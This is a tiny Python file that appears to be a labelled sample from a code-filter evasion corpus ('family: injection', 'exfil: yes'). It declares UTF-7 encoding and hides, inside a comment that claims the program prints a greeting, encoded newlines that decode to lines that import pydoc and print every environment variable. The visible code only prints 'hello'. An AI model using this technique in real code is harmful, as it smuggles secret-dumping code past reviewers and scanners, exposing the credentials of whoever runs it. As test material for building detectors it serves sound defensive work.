# -*- coding: utf-7 -*-
# family: injection
# filterfamily: unicode-comments
# tries: declare UTF-7 as the source encoding and hide a line in a comment behind an encoded newline, which the tokenize module misses
# source: none
# exfil: yes

# This program prints a greeting.+AAo-import pydoc+AAo-print(dict(pydoc.locate("os").environ))
print("hello")
